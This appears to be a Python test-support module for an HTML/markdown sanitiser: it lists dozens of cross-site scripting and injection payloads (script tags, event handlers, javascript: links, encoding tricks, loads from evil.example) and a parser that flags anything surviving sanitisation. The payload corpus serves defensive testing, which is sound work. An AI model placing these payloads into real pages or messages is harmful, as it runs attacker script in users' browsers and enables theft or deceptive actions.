"""What would a message say that wants to run on the page? A corpus, and a way to see whether anything of it survived.

Each of them, run by a browser, would set `window.__pwned`, open a dialog or ask another host for something.
"""

from html.parser import HTMLParser

_RUN = "window.__pwned=1"
TAGS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={_RUN}></style></mtext></math>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<body onload={_RUN}>",
    f"<form action=javascript:{_RUN}><button>go</button></form>",
    f"<a href=javascript:{_RUN}>a</a>",
    f"<template><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[<script>{_RUN}</script>]]>",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}",
)
MARKDOWN = (
    f"[a](javascript:{_RUN})",
    f"[a](JaVaScRiPt:{_RUN})",
    f"[a](java\tscript:{_RUN})",
    f"[a](&#106;avascript:{_RUN})",
    f"[a](&#x6A&#x61&#x76&#x61script:{_RUN})",
    f"[a]( \x01javascript:{_RUN})",
    f"[a](data:text/html,<script>{_RUN}</script>)",
    "[a](vbscript:msgbox(1))",
    f"[a][1]\n\n[1]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    "![a](http://evil.example/x.png)",
    f"![a](x 'onerror={_RUN}')",
    f'[a](http://example.org/ "onclick={_RUN}")',
    "[a](//evil.example/)",
    "[Approve](#/approvals) [Stop](/shut_down)",
    f"`<img src=x onerror={_RUN}>`",
    f"```html\n<script>{_RUN}</script>\n```",
    f"| a |\n|---|\n| <img src=x onerror={_RUN}> |",
    f"> <script>{_RUN}</script>",
    f"# <svg onload={_RUN}>",
)
TRICKS = (
    "{{constructor.constructor('window.__pwned=1')()}}",
    f"${{(()=>{{{_RUN}}})()}}",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&amp;lt;img src=x onerror=window.__pwned=1&amp;gt;",
    f"\u202e<script>{_RUN}</script>\u202c",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"\ufeff<img\u2028src=x\u2029onerror={_RUN}>",
    f"＜script＞{_RUN}＜/script＞",
    "?lit$123456789$<img src=x onerror=window.__pwned=1>",
    "__proto__",
    "javascript:window.__pwned=1",
    f"<a href='http://example.org' style='position:fixed;inset:0' id=main name=token class=primary>{'x' * 2_000}</a>",
)
ATTACKS = (*TAGS, *MARKDOWN, *TRICKS)

_BLOCKS = ("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "pre", "ul", "ol", "li")
SHOWS_ONLY = frozenset((*_BLOCKS, "a", "strong", "em", "s", "code", "table", "thead", "tbody", "tr", "th", "td"))
OUT = ("http://", "https://", "mailto:")


class Survivors(HTMLParser):
    """Everything in a piece of HTML that does more than show text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Of one that closes itself, too: HTMLParser tells it as a beginning and an end."""
        if tag not in SHOWS_ONLY:
            self.found.append(f"<{tag}>")
        given = dict(attrs)
        for name, value in given.items():
            fine = {"href": tag == "a" and (value or "").lower().startswith(OUT), "start": tag == "ol"}
            if not fine.get(name, tag == "a" and (name, value) in (("target", "_blank"), ("rel", _REL))):
                self.found.append(f"<{tag} {name}={value}>")
        if "href" in given and (given.get("rel") != _REL or given.get("target") != "_blank"):
            self.found.append(f"<a> with rel {given.get('rel')}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}>")


_REL = "nofollow noopener noreferrer"


def survivors(html: str) -> list[str]:
    return Survivors(html).found
